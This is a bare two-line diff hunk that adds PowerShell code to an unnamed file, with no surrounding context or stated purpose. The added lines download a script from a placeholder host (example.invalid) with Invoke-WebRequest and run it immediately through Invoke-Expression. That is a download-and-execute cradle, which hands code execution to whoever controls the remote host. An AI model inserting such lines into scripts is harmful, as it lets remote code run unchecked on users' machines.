@@ -1,0 +1,2 @@
+$r = Invoke-WebRequest -Uri http://example.invalid/next.ps1
+iex $r.Content
